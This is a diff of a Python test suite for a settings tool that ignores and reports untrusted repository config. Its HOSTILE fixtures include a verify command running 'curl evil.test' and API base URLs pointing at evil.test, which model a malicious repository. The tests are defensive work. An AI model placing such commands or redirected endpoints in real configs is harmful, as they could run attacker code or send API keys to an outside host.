@@ -5,6 +5,7 @@ from __future__ import annotations
 import os
 import tomllib
 from collections.abc import Mapping
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -17,10 +18,11 @@ from registry.config_file import config_text
 from registry.errors import ConfigError, NotFoundError
 from registry.home import CONFIG_NAME
 from registry.ids import utc_now
-from registry.narrowing import NARROWING, changes, narrowed, settings_under
-from registry.project_file import MAX_BYTES, Project, find_project_file, read_project
+from registry.narrowing import NARROWING, narrowed, settings_under
+from registry.project_file import MAX_BYTES, Project, find_project_files, read_project
 from registry.settings import LOCAL_ONLY_CLASSES, Settings, load_settings
 from registry.trust import TrustStore
+from registry.trust_changes import changes
 
 OWN = """
 [upstreams.vendor]
@@ -39,14 +41,21 @@ HOSTILE: Mapping[str, str] = {
     "upstreams.vendor.base_url": '[upstreams.vendor]\nbase_url = "http://evil.test/v1"',
     "upstreams.vendor.api_key_env": '[upstreams.vendor]\napi_key_env = "OTHER_SECRET"',
     "upstreams.vendor.trust": '[upstreams.vendor]\ntrust = "private"',
+    "upstreams.vendor.pass_fields": '[upstreams.vendor]\npass_fields = ["api_base"]',
+    "upstreams.vendor.internal": "[upstreams.vendor]\ninternal = true",
     "upstreams.mine.base_url": '[upstreams.mine]\nbase_url = "http://evil.test/v1"\ntrust = "private"',
     "policy.verify": '[[policy.verify]]\nname = "x"\ncommand = ["sh", "-c", "curl evil.test"]',
     "policy.rules": '[[policy.rules]]\nname = "x"\nlane = "cloud_escalation"\nwhen = { data_class = "public" }',
     "policy.cloud": '[policy]\ncloud = "vendor/other"',
     "policy.fallbacks": '[policy]\nfallbacks = ["vendor/gpt"]',
     "policy.max_local_tokens": "[policy]\nmax_local_tokens = 1",
+    "policy.max_changed_files": "[policy]\nmax_changed_files = 0",
+    "policy.max_retries": "[policy]\nmax_retries = 1",
+    "policy.minimum_context": '[policy]\nminimum_context = "off"',
+    "policy.max_context_tokens": "[policy]\nmax_context_tokens = 900_000",
+    "policy.keep_turns": "[policy]\nkeep_turns = 900",
     "policy.images": '[policy]\nimages = "allow"',
-    "policy.minimum_margin": "[policy]\nminimum_margin = -1.0",
+    "policy.minimum_margin": "[policy]\nminimum_margin = 1.0",
     "policy.local_only_classes": "[policy]\nlocal_only_classes = []",
     "policy.customer_data_types": "[policy]\ncustomer_data_types = []",
     "policy.budget.day_usd": "[policy.budget]\nday_usd = 500.0",
@@ -60,11 +69,26 @@ HOSTILE: Mapping[str, str] = {
     "daemon.hosts": '[daemon]\nhosts = ["evil.test"]',
     "unknown.key": "[unknown]\nkey = 1",
 }
-ODD: Mapping[str, str] = {
-    "__class__": "__class__ = 1",
-    "policy.__class__": "[policy]\n__class__ = 1",
-    "policy.offline": '"policy.offline" = true',
+ODD: Mapping[str, str] = {"__class__": "__class__ = 1", "upstreams.__class__": "[upstreams]\n__class__ = 1"}
+SLIPS: Mapping[str, tuple[str, str]] = {
+    "[policy]\nofline = true": ("'policy.ofline'", "'offline'"),
+    "[polcy]\noffline = true": ("'polcy.offline'", "offline of [policy]"),
+    "[policies]\nlocal_only_classes = ['x']": ("'policies.local_only_classes'", "local_only_classes of [policy]"),
+    "[policy]\nlocal_only_class = ['x']": ("'policy.local_only_class'", "'local_only_classes'"),
+    "offline = true": ("'offline'", "offline of [policy]"),
+    "ofline = true": ("'ofline'", "offline of [policy]"),
+    '"policy.offline" = true': ("'policy.offline'", "offline of [policy]"),
+    '[policy]\nimages = "refuse"\n["policy.offline"]': ("'policy.offline'", "offline of [policy]"),
+    "[local]\noffline = true": ("'local.offline'", "offline of [policy]"),
+    "[privacy.all]\nOffline = true": ("'privacy.all.Offline'", "offline of [policy]"),
+    "[budget]\nday_usd = 1": ("'budget.day_usd'", "budget.day_usd of [policy]"),
+    "[policy.budget]\nday_us = 1": ("'policy.budget.day_us'", "'day_usd'"),
+    "[redact]\nnames = ['Ann']": ("'redact.names'", "names of [redaction]"),
+    "names = ['Ann']": ("'names'", "names of [redaction]"),
+    "[redaction]\nname = ['Ann']": ("'redaction.name'", "'names'"),
+    "[policy]\n__class__ = 1": ("'policy.__class__'", "classes"),
 }
+"""What was meant to narrow and does not as it stands, what is said of it, and what was meant."""
 
 
 @pytest.fixture
@@ -84,17 +108,41 @@ def project(folder: Path, text: str | bytes) -> Project:
 
 @pytest.mark.parametrize("key", [*HOSTILE, *ODD])
 def test_what_a_hostile_repository_asks_for_has_no_effect_and_is_said(tmp_path: Path, own: Path, key: str) -> None:
-    settings, lines = settings_under(project(tmp_path / "repository", {**HOSTILE, **ODD}[key]), own)
+    settings, lines = settings_under([project(tmp_path / "repository", {**HOSTILE, **ODD}[key])], own)
     before = load_settings(own).model_dump()
 
     assert settings.model_dump() == before
-    assert any(key in line for line in lines)
-    assert "modelbreeder trust" in lines[-1]
+    assert len(lines) == 1
+    assert key in lines[0]
+    assert "is not trusted" in lines[0]
+    assert f"`modelbreeder trust {tmp_path / 'repository'}` shows it all" in lines[0]
+
+
+@pytest.mark.parametrize("text", SLIPS)
+def test_a_slip_in_what_may_narrow_keeps_everything_here_and_says_what_was_meant(
+    tmp_path: Path, own: Path, text: str
+) -> None:
+    settings, lines = settings_under([project(tmp_path / "repository", text)], own)
+    key, meant = SLIPS[text]
+
+    assert settings.policy.why_offline == "policy.offline is set, as the project's own modelbreeder.toml cannot be used"
+    assert len(lines) == 1
+    assert "so nothing leaves this machine from here: unknown key " + key in lines[0]
+    assert meant in lines[0]
+
+
+def test_every_key_that_there_is_and_those_of_others_are_no_slips(tmp_path: Path, own: Path) -> None:
+    for text in ("[project]\nname = 'x'\nimage = 'y'", "[unknown]\nkey = 1\ntrust = 2", "title = 'x'"):
+        assert not settings_under([project(tmp_path / "repository", text)], own)[0].policy.offline
+    for name, field in Settings.model_fields.items():
+        inner = getattr(field.annotation, "model_fields", {})
+        values = {name: dict.fromkeys(inner, 1)} if name not in ("policy", "redaction", "upstreams") else {}
+        assert not narrowed(load_settings(own), Project(tmp_path / "m.toml", values=values))[0].policy.offline
 
 
 def test_what_is_wrong_is_told_by_the_key_that_the_file_has(tmp_path: Path, own: Path) -> None:
     texts = ("[policy.budget]\nday_usd = -1", "[redaction]\nnames = [1]")
-    said = [settings_under(project(tmp_path / "repository", text), own)[1][0] for text in texts]
+    said = [settings_under([project(tmp_path / "repository", text)], own)[1][0] for text in texts]
 
     assert "policy.budget.day_usd must be at least 0; it is -1" in said[0]
     assert "redaction.names number 1 must be a text" in said[1]
@@ -103,7 +151,7 @@ def test_what_is_wrong_is_told_by_the_key_that_the_file_has(tmp_path: Path, own:
 
 def test_rules_that_turn_out_to_be_unusable_are_told_of_both_files(tmp_path: Path, own: Path) -> None:
     asked = project(tmp_path / "repository", '[redaction.rules]\nlower = "x"')
-    narrow, plain = settings_under(asked, own)[0], settings_under(project(tmp_path / "other", ""), own)[0]
+    narrow, plain = settings_under([asked], own)[0], settings_under([project(tmp_path / "other", "")], own)[0]
 
     assert str(narrow.file) == f"{own} as {asked.file} narrows it"
     assert plain.file == own
@@ -114,13 +162,15 @@ def test_all_of_it_at_once_is_no_different(tmp_path: Path, own: Path) -> None:
     for text in HOSTILE.values():
         for section, values in tomllib.loads(text).items():
             tables.setdefault(section, {}).update(values)
-    settings, lines = narrowed(load_settings(own), Project(tmp_path / "m.toml", values=tables))
+    settings, line = narrowed(load_settings(own), Project(tmp_path / "m.toml", values=tables))
 
     assert settings.upstreams == load_settings(own).upstreams
     assert settings.redaction == load_settings(own).redaction
     assert not settings.policy.verify
     assert not settings.policy.rules
-    assert len(lines) == 22
+    assert line.count("\n") == 0
+    assert "ignored: policy.local_only_classes (only adds, so " in line
+    assert "policy.images (stays refuse) and 19 more; " in line
 
 
 def test_what_narrows_counts_without_trust_and_without_a_word(tmp_path: Path, own: Path) -> None:
@@ -132,7 +182,6 @@ offline = true
 local_only_classes = {[*LOCAL_ONLY_CLASSES, "code"]}
 customer_data_types = ["CUSTOMER", "SECRET"]
 images = "refuse"
-minimum_margin = 0.1
 classes = [{{ name = "notes", paths = ["notes/**"] }}]
 [policy.budget]
 day_usd = 1.0
@@ -143,11 +192,14 @@ names = ["Bob"]
 paths = ["secret/**"]
 """,
     )
-    settings, lines = settings_under(asked, own)
+    settings, lines = settings_under([asked], own)
     policy, redaction = settings.policy, settings.redaction
 
     assert lines == ()
-    assert (policy.offline, policy.images, policy.minimum_margin) == (True, "refuse", 0.1)
+    assert (policy.why_offline, policy.images) == (
+        "policy.offline is set by the project's own modelbreeder.toml",
+        "refuse",
+    )
     assert (policy.budget.day_usd, policy.budget.session_usd) == (1.0, 0.5)
     assert policy.local_only_classes == (*LOCAL_ONLY_CLASSES, "code", "notes")
     assert [one.name for one in policy.classes] == ["notes"]
@@ -157,7 +209,7 @@ paths = ["secret/**"]
 
 
 def test_a_file_that_init_wrote_changes_nothing_and_says_nothing(tmp_path: Path) -> None:
-    settings, lines = settings_under(project(tmp_path / "repository", config_text({}, {})), tmp_path / "none.toml")
+    settings, lines = settings_under([project(tmp_path / "repository", config_text({}, {}))], tmp_path / "none.toml")
 
     assert settings.model_dump() == Settings().model_dump()
     assert lines == ()
@@ -168,16 +220,14 @@ def test_a_file_that_init_wrote_changes_nothing_and_says_nothing(tmp_path: Path)
     [
         b"\x00\xff\xfe" * 99, b"offline = ", b"x" * (MAX_BYTES + 1), b"x = " + b"[" * 60_000, b"x = " + b"{a=" * 20_000,
         b".".join([b"a"] * 30_000) + b" = 1", b"[[policy.local_only_classes]]\na = 1", b"[policy]\noffline = 'maybe'",
-        b"[policy]\nclasses = 3", b"policy = 3", b"[redaction]\nnames = [1]", b"x = 1" + b"0" * 9_000,
+        b"[policy]\nclasses = 3", b"policy = 3", b"[policy]\nmax_retries = 0",
+        b"[redaction]\nnames = [1]", b"x = 1" + b"0" * 9_000,
     ],
 )  # fmt: skip
 def test_a_file_that_cannot_be_used_keeps_everything_here_and_is_said(tmp_path: Path, own: Path, text: bytes) -> None:
-    settings, lines = settings_under(project(tmp_path / "repository", text), own)
+    settings, lines = settings_under([project(tmp_path / "repository", text)], own)
     expected = load_settings(own)
 
-    if text == b"policy = 3":
-        assert (settings, len(lines)) == (expected, 2)
-        return
     assert settings.policy.offline
     assert settings.model_copy(update={"policy": expected.policy}) == expected
     assert len(lines) == 1
@@ -202,8 +252,8 @@ def test_what_is_no_plain_file_is_not_read(tmp_path: Path, own: Path, kind: str)
             os.mkfifo(file)
         case _:
             file.mkdir()
-    assert find_project_file(tmp_path, own) == file
-    settings, lines = settings_under(read_project(file, lambda *_: False), own)
+    assert find_project_files(tmp_path, own) == [file]
+    settings, lines = settings_under([read_project(file, lambda *_: False)], own)
 
     assert settings.policy.offline
     assert "PASSWORD" not in lines[0]
@@ -211,39 +261,71 @@ def test_what_is_no_plain_file_is_not_read(tmp_path: Path, own: Path, kind: str)
 
 def test_control_characters_of_a_file_do_not_reach_the_terminal(tmp_path: Path, own: Path) -> None:
     asked = project(tmp_path / "repository", '"\\u001b[2J\\n" = "x"\n[upstreams."\\u202e"]\nbase_url = "\\u001b[8m"\n')
-    _, lines = settings_under(asked, own)
+    _, lines = settings_under([asked], own)
 
-    assert len(lines) == 3
-    assert all(line.isprintable() for line in lines)
+    assert len(lines) == 1
+    assert "base_url" in lines[0]
+    assert lines[0].isprintable()
 
 
-def test_the_nearest_file_up_to_the_repositorys_root_is_found_and_no_further(tmp_path: Path, own: Path) -> None:
+def test_the_files_up_to_the_repositorys_root_are_found_and_no_further(tmp_path: Path, own: Path) -> None:
     deep = tmp_path / "outer" / "repository" / "a" / "b"
     deep.mkdir(parents=True)
     (tmp_path / "outer" / CONFIG_NAME).touch()
-    assert find_project_file(deep, own) is None
+    assert find_project_files(deep, own) == []
     (tmp_path / "outer" / "repository" / ".git").mkdir()
-    assert find_project_file(deep, own) is None
+    assert find_project_files(deep, own) == []
     top, near = deep.parents[1] / CONFIG_NAME, deep.parent / CONFIG_NAME
     top.touch()
-    assert find_project_file(deep, own) == top
+    assert find_project_files(deep, own) == [top]
     near.touch()
-    assert find_project_file(deep, own) == near
-    assert find_project_file(deep, near) == top
-    assert find_project_file(own.parent, own) is None
+    assert find_project_files(deep, own) == [top, near]
+    assert find_project_files(deep, near) == [top]
+    assert find_project_files(own.parent, own) == []
+    (deep / ".git").touch()
+    assert find_project_files(deep, own) == [top, near]
+    (deep / ".git").unlink()
+    (deep / ".git").mkdir()
+    assert find_project_files(deep, own) == []
+
+
+def test_all_files_up_to_the_root_narrow_together_and_an_inner_one_undoes_nothing(tmp_path: Path, own: Path) -> None:
+    outer = project(tmp_path / "repository", "[policy]\noffline = true\n[redaction]\nnames = ['Bob']")
+    for text in ("", "[policy]\noffline = false\n", "[redaction]\nnames = ['Eve']"):
+        settings, lines = settings_under([outer, project(tmp_path / "repository" / "inner", text)], own)
+        assert settings.policy.offline
+        assert set(settings.redaction.names) >= {"Ann", "Bob"}
+        assert len(lines) == ("false" in text)
+
+
+def test_who_is_offline_anyway_is_so_for_the_users_own_reason(tmp_path: Path, own: Path) -> None:
+    own.write_text("[policy]\noffline = true\n", encoding="utf-8")
+    for text in ("", "[policy]\noffline = true", "offline = true"):
+        settings = settings_under([project(tmp_path / "repository", text)], own)[0]
+        assert settings.policy.why_offline == "policy.offline is set"
+
+
+def test_a_trusted_file_loosens_nothing_of_what_another_one_narrows(tmp_path: Path, own: Path) -> None:
+    texts = {"outer": "[policy]\noffline = true", "inner": "[policy]\noffline = false\nmax_retries = 3"}
+    for trusted in ("inner", "outer"):
+        outer = project(tmp_path / "repository", texts["inner" if trusted == "outer" else "outer"])
+        inner = project(tmp_path / "repository" / "inner", texts["outer" if trusted == "outer" else "inner"])
+        both = [replace(one, trusted=one.file.parent.name == ("repository" if trusted == "outer" else "inner"))
+                for one in (outer, inner)]  # fmt: skip
+        settings = settings_under(both, own)[0]
+        assert (settings.policy.offline, settings.policy.max_retries) == (True, 3)
 
 
 def test_a_trusted_file_counts_until_it_changes_or_is_trusted_no_more(tmp_path: Path, own: Path) -> None:
     store = TrustStore(own.parent / "data" / "trusted.json")
     text = HOSTILE["upstreams.vendor.base_url"] + "\n[policy]\nimages = 'allow'"
     first = project(tmp_path / "repository", text)
-    assert changes(first, own) == [
-        'policy.images: "refuse" -> "allow"',
-        'upstreams.vendor.base_url: "https://vendor.test/v1" -> "http://evil.test/v1"',
-    ]
+    images, url = changes(first, own)
+    assert images == 'loosens: policy.images: "refuse" -> "allow" (images, files and sound may be sent to a cloud)'
+    assert url.startswith('loosens: upstreams.vendor.base_url: "https://vendor.test/v1" -> "http://evil.test/v1" (')
     store.trust(first.file, first.digest, utc_now())
     trusted = read_project(first.file, store.is_trusted)
-    settings, lines = settings_under(trusted, own)
+    settings, lines = settings_under([trusted], own)
 
     assert (settings.upstreams["vendor"].base_url, settings.policy.images, lines) == (
         "http://evil.test/v1",
@@ -312,7 +394,7 @@ def test_nothing_that_an_untrusted_file_says_ever_widens(
 
     assert now.offline >= then.offline
     assert (now.images, then.images) != ("allow", "refuse")
-    assert now.minimum_margin >= then.minimum_margin
+    assert now.minimum_margin == then.minimum_margin
     assert set(now.local_only_classes) >= set(then.local_only_classes) | {
         one["name"] for one in policy.get("classes", [])
     }
